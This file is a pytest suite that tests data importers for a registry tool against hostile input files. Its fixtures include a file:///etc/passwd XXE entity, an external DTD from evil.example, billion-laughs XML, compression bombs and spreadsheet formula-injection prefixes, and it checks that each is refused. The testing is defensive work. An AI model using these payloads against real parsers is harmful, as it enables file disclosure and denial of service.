"""Files made to do harm, for every importer: encodings, half letters, numbers that grow, formulas, archives, markup.

Whatever a file holds, it ends as a report that counts every row or as a refusal with a stable code; other files of the batch go on,
and everything that was taken can be handed out and taken in again.
"""

import bz2
import csv
import gzip
import io
import json
import lzma
import os
import tarfile
import zipfile
from collections.abc import Callable, Iterator
from pathlib import Path
from typing import Any

import pytest
from hypothesis import HealthCheck, example, given, settings
from hypothesis import strategies as st
from sqlalchemy import select

from tests.evidence.papers import workbook
from tests.registry.test_exchange import READERS, emptied, exported, kept, opened
from tocsin.registry import tables, twins
from tocsin.registry.formats import FORMATS, Given
from tocsin.registry.hand_in import hand_in
from tocsin.registry.importing import FileIsMarkup, FileNotUnderstood, FilePacked, Report, import_file
from tocsin.registry.model import Claim, Draft, Row, Source
from tocsin.registry.record import record
from tocsin.registry.room import Registry

MAPPING = """source = "https://register.example"
[entity.firm]
schema = "Company"
id = ["number"]
[entity.firm.properties]
name = "firm"
[entity.value]
schema = "ValueEvent"
id = ["number"]
[entity.value.properties]
about = "@firm"
kind = "=award"
amount = "amount"
"""
FEDERAL = "contract_transaction_unique_key,award_id_piid,awarding_agency_name,recipient_name,federal_action_obligation,action_date"


def line(*cells: str) -> str:
    out = io.StringIO()
    csv.writer(out, lineterminator="\n").writerow(cells)
    return out.getvalue()


def ocds(name: str, amount: str) -> dict[str, Any]:
    award = {
        "id": "1",
        "title": name,
        "suppliers": [{"name": f"{name} SA"}],
        "value": {"amount": amount, "currency": "EUR"},
    }
    return {"ocid": f"o-{name}", "date": "2024-01-02", "buyer": {"name": "Ville de Lyon"}, "awards": [award]}


def market(name: str, amount: str) -> dict[str, Any]:
    firm = {"id": "3", "denominationSociale": f"{name} SA"}
    return {"id": "1", "acheteur": {"id": "2", "nom": "Ville"}, "objet": name, "titulaires": [firm], "montant": amount}


def node(name: str, amount: str) -> dict[str, Any]:
    tags = {"man_made": "surveillance", "operator": f"Ville de {name}", "surveillance": amount}
    return {"id": "node/1", "geometry": {"type": "Point", "coordinates": [5.38, 43.3]}, "properties": tags}


def ftm(name: str, amount: str) -> str:
    firm = {"id": "f-1", "schema": "Company", "properties": {"name": [f"{name} LLC"]}}
    paid = {"id": "f-2", "schema": "Payment", "properties": {"contract": ["f-3"], "amount": [amount]}}
    return f"{json.dumps(firm)}\n{json.dumps(paid)}\n"


STATEMENTS = (
    "entity_id",
    "prop",
    "schema",
    "value",
    "dataset",
    "source_url",
    "verb",
    "confidence",
    "first_seen",
    "last_seen",
)
FILES: dict[str, tuple[str, Callable[[str, str], str]]] = {
    "narrow": ("usaspending", lambda name, amount: "Award ID,Awarding Agency,Recipient Name,Award Amount\n"
               + line("A1", "ICE", f"{name} LLC", amount)),
    "wide": ("usaspending", lambda name, amount: f"{FEDERAL}\n" + line("T1", "P1", "ICE", f"{name} LLC", amount, "2024-01-02")),
    "releases": ("ocds", lambda name, amount: json.dumps({"releases": [ocds(name, amount)]})),
    "lines": ("ocds", lambda name, amount: f"{json.dumps(ocds('First', '1'))}\n{json.dumps(ocds(name, amount))}\n"),
    "records": ("ocds", lambda name, amount: json.dumps({"records": [{"ocid": "o", "compiledRelease": ocds(name, amount)}]})),
    "marches": ("decp", lambda name, amount: json.dumps({"marches": [market(name, amount)]})),
    "consolidated": ("decp", lambda name, amount: "acheteur.id;objet;id;titulaire.id;titulaire.denominationSociale;montant\n"
                     + line("2", "Caméras", "1", "3", f"{name} SA", amount).replace(",", ";")),
    "nodes": ("osm", lambda name, amount: json.dumps({"features": [node(name, amount)]})),
    "table": ("csv", lambda name, amount: "number,firm,amount\n" + line("1", f"{name} LLC", amount)),
    "entities": ("ftm", ftm),
    "statements": ("statements", lambda name, _: ",".join(STATEMENTS) + "\n" + line(
        "s-1", "name", "Company", f"{name} LLC", "d", "https://x.example", "recorded", "high", "2024-01-01", "2024-01-01")),
}  # fmt: skip
"""Each importer's files, with a name and an amount where a stranger can write."""
EXAMPLES = int(os.environ.get("TOCSIN_TEST_EXAMPLES", "12"))
BYTES = ["utf-8", "utf-8-sig", "utf-16", "utf-16-le", "utf-32", "latin-1", "cp1252", "utf-7", "cp037"]
LETTERS = st.one_of(
    st.text(st.characters(exclude_categories=()), max_size=12),
    st.sampled_from(
        [
            "\ud800",
            "\udfff\ud800",
            "\ud800x" * 90,
            "a\0b",
            "\ufeff",
            "\x1f",
            "\x0b",
            "\u2028",
            "é",
            "\U0001f4f7",
            "\uffff",
            '"',
            "\r",
            "'",
        ]
    ),
)
NUMBERS = st.one_of(
    st.sampled_from(
        ["1e99999999", "-1E+400", "1e-400", "NaN", "-inf", "1_0", "０１", "9" * 5000, "0x10", "", "1,2.3", "$-5"]
    ),
    st.decimals(allow_nan=True).map(str),
    LETTERS,
)


@pytest.fixture(scope="module")
def empty(tmp_path_factory: pytest.TempPathFactory) -> Iterator[Registry]:
    made = opened(tmp_path_factory.mktemp("hostile") / "node.db", is_empty=True)
    yield made
    made.database.close()


@pytest.fixture(scope="module")
def mapping(tmp_path_factory: pytest.TempPathFactory) -> Path:
    path = tmp_path_factory.mktemp("mapping") / "mapping.toml"
    path.write_text(MAPPING)
    return path


def taken(registry: Registry, form: str, path: Path, mapping: Path) -> Report:
    kind = FORMATS[form]
    read = kind.open(Given("d", mapping=mapping))
    return import_file(registry, path, read, "d", refreshes=not kind.tells_filters)


def written(text: str, form: str) -> bytes:
    """As a file of this encoding; half letters as those write them who do not look."""
    return text.encode(form, "surrogatepass" if form.startswith("utf") and form != "utf-7" else "replace")


@pytest.mark.parametrize("name", FILES)
def test_the_file_itself_is_taken(empty: Registry, mapping: Path, tmp_path: Path, name: str) -> None:
    """Else the others would be refused for something else."""
    form, told = FILES[name]
    empty.database.write_now(emptied)
    (tmp_path / "file").write_text(told("Acme", "12.5"))
    done = taken(empty, form, tmp_path / "file", mapping)
    assert (done.kept, done.held.total(), done.refused.total()) == (done.rows, 0, 0)
    assert done.rows


@pytest.mark.parametrize("name", FILES)
@settings(max_examples=EXAMPLES, suppress_health_check=[HealthCheck.function_scoped_fixture])
@example(letters="\ud800" * 90, number="1", form="utf-8", spliced=None)
@example(letters="a\0b\x1f", number="1", form="utf-8", spliced=None)
@example(letters="", number="1e99999", form="utf-8", spliced=None)
@given(
    letters=LETTERS,
    number=NUMBERS,
    form=st.sampled_from(BYTES),
    spliced=st.none() | st.tuples(st.integers(0, 200), st.binary(max_size=4)),
)
def test_any_letters_and_numbers_end_as_a_report_or_a_refusal(
    empty: Registry,
    mapping: Path,
    tmp_path: Path,
    name: str,
    letters: str,
    number: str,
    form: str,
    spliced: tuple[int, bytes] | None,
) -> None:
    kind, told = FILES[name]
    raw = written(told(f"Ac{letters}me", number), form)
    if spliced:
        at, more = spliced
        raw = raw[: at % len(raw)] + more + raw[at % len(raw) + len(more) :]
    path = tmp_path / "file"
    path.write_bytes(raw)
    empty.database.write_now(emptied)
    try:
        done = taken(empty, kind, path, mapping)
    except FileNotUnderstood:
        assert not kept(empty)
        return
    assert done.rows == done.kept + done.merged + done.held.total() + done.refused.total()
    before = kept(empty)
    assert bool(before) == bool(done.kept)
    for out, read in READERS.items():
        handed = exported(empty, out, tmp_path / out)
        assert all(len(cell) < 20_000 for cell in handed.read_text().split(",")), "nothing grew on the way"
        empty.database.write_now(emptied)
        again = import_file(empty, handed, read, "copy", refreshes=True) if before else Report()
        assert not again.refused
        assert kept(empty) == before


@pytest.mark.parametrize("name", ["narrow", "wide", "consolidated", "table"])
def test_bytes_that_are_no_letters_are_refused_and_never_replaced(
    empty: Registry, mapping: Path, tmp_path: Path, name: str
) -> None:
    """A table in Latin letters taken for UTF-8 would name a firm that there is not."""
    form, told = FILES[name]
    empty.database.write_now(emptied)
    (tmp_path / "file").write_bytes(told("Société", "1").encode("latin-1"))
    done = taken(empty, form, tmp_path / "file", mapping)
    assert dict(done.refused) == {"letters_malformed": 1}
    assert not kept(empty)


@pytest.mark.parametrize("form", ["latin-1", "cp1252", "utf-16", "utf-8-sig"])
def test_a_table_is_read_in_the_encoding_that_its_mapping_names(empty: Registry, tmp_path: Path, form: str) -> None:
    empty.database.write_now(emptied)
    (tmp_path / "mapping").write_text(f'encoding = "{form}"\n{MAPPING}')
    (tmp_path / "file").write_bytes(FILES["table"][1]("Société", "1").encode(form))
    assert taken(empty, "csv", tmp_path / "file", tmp_path / "mapping").kept == 1
    values = empty.database.read_now(lambda c: c.scalars(select(tables.statement.c.value)).all())
    assert "Société LLC" in values


@pytest.mark.parametrize("form", ["rot13", "idna", "punycode", "unicode_escape", "zip", "none"])
def test_an_encoding_that_is_no_letters_is_no_mapping(empty: Registry, tmp_path: Path, form: str) -> None:
    (tmp_path / "mapping").write_text(f'encoding = "{form}"\n{MAPPING}')
    [said] = batch(empty, "csv", tmp_path / "mapping", tmp_path / "mapping")
    assert said["refused"] == "mapping_malformed"


def nested() -> bytes:
    """An archive of archives of nothing much, again and again."""
    raw = bytes(1 << 20)
    for at in range(4):
        out = io.BytesIO()
        with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as file:
            for copy in range(4):
                file.writestr(f"{at}-{copy}.zip", raw)
        raw = out.getvalue()
    return raw


def tar() -> bytes:
    out = io.BytesIO()
    with tarfile.open(fileobj=out, mode="w") as file:
        file.addfile(tarfile.TarInfo("rows.csv"), io.BytesIO())
    return out.getvalue()


BOMBS: dict[str, Callable[[], bytes]] = {
    "gzip of zeros": lambda: gzip.compress(bytes(8 << 20), 9), "bzip2": lambda: bz2.compress(bytes(1 << 20)),
    "xz": lambda: lzma.compress(bytes(1 << 20)), "zip of zips": nested, "tar": tar,
    "workbook": lambda: workbook([("Rows", "visible", ["A1,ICE,Acme LLC,1"])]),
    "old workbook": lambda: b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + bytes(600),
    "zstandard": lambda: b"\x28\xb5\x2f\xfd" + bytes(64), "pdf": lambda: b"%PDF-1.7\n",
}  # fmt: skip
LAUGHS = "".join(f"<!ENTITY a{at} '{f'&a{at - 1};' * 10 if at else 'ha'}'>" for at in range(10))
MARKUP = {
    "billion laughs": f"<?xml version='1.0'?><!DOCTYPE x [{LAUGHS}]><x>&a9;</x>".encode(),
    "outside entity": b"\xef\xbb\xbf \n<!DOCTYPE x [<!ENTITY a SYSTEM 'file:///etc/passwd'>]><releases>&a;</releases>",
    "outside table of entities": b"<!DOCTYPE x SYSTEM 'https://evil.example/x.dtd'><x/>",
    "in two bytes a letter": "<?xml version='1.0'?><x/>".encode("utf-16"),
    "page": b"<!doctype html><table><tr><td>A1</td></tr></table>",
}


@pytest.fixture(scope="module")
def bad(tmp_path_factory: pytest.TempPathFactory) -> list[Path]:
    """Archives, then markup, each as a file."""
    folder = tmp_path_factory.mktemp("bad")
    made = {**{what: make() for what, make in BOMBS.items()}, **MARKUP}
    for what, raw in made.items():
        (folder / what).write_bytes(raw)
    return [folder / what for what in made]


def batch(registry: Registry, form: str, mapping: Path, *files: Path) -> list[dict[str, Any]]:
    """What the running node answers to several files handed in at once; steps on the way left out."""
    said: list[bytes] = []
    wish = {"kind": "registry-import", "to": "x", "files": [str(one) for one in files], "form": form, "dataset": "d"}
    hand_in(registry, wish | {"mapping": str(mapping)}, said.append)
    answers = [json.loads(one) for one in said]
    return [one for one in answers if "file" in one or "refused" in one]


@pytest.mark.parametrize("name", FILES)
def test_archives_and_markup_are_refused_in_words_and_the_batch_goes_on(
    empty: Registry, mapping: Path, tmp_path: Path, bad: list[Path], name: str
) -> None:
    form, told = FILES[name]
    empty.database.write_now(emptied)
    whole = [tmp_path / "first", tmp_path / "last"]
    for at, path in enumerate(whole):
        path.write_text(told(f"Acme{at}", "12.5"))
    first, *refused, last = batch(empty, form, mapping, whole[0], *bad, whole[1])
    assert [one["refused"] for one in refused] == ["file_packed"] * len(BOMBS) + ["file_is_markup"] * len(MARKUP)
    assert {one["message"] for one in refused} == {FilePacked.message, FileIsMarkup.message}
    assert (first["kept"], last["rows"]) == (first["rows"], first["rows"])
    assert last["kept"] >= 1


RUNS = ("=", "+", "-", "@", "\t", "\r", "\n", "＝", "＋", "－", "＠")
"""What spreadsheets begin to run at, said once more: the test is not to believe the program's own list."""


@settings(max_examples=EXAMPLES, suppress_health_check=[HealthCheck.function_scoped_fixture])
@given(said=st.text(st.characters(codec="utf-8", exclude_categories=("Cs", "Cc")), max_size=8))
def test_no_cell_of_any_table_runs_in_a_spreadsheet_and_all_come_back(
    empty: Registry, tmp_path: Path, said: str
) -> None:
    empty.database.write_now(emptied)
    texts = [f"{begin}{said}1+1" for begin in (*RUNS, "'", "''", "'=")]
    claims = [Claim("title", f"{at}{one}" if not one.strip() else one, one) for at, one in enumerate(texts)]
    rows = [Row(1, [Draft("d-1", "Deployment", claims)], Source("https://x.example", f"={said}"))]
    done = empty.database.write_now(lambda c: record(c, rows, "d", 20_000))
    before = kept(empty)
    assert (done.kept, len(before)) == (1, len(texts))
    out = exported(empty, "statements", tmp_path / "out")
    twin = twins.as_csv([{"a": one} for one in texts], ("a",)).decode("utf-8-sig")
    cells = [
        cell
        for text in (out.read_bytes().decode(), twin)
        for one in csv.reader(io.StringIO(text, newline=""))
        for cell in one
    ]
    assert not any(cell.startswith(RUNS) for cell in cells)
    empty.database.write_now(emptied)
    import_file(empty, out, READERS["statements"], "copy", refreshes=True)
    assert kept(empty) == before
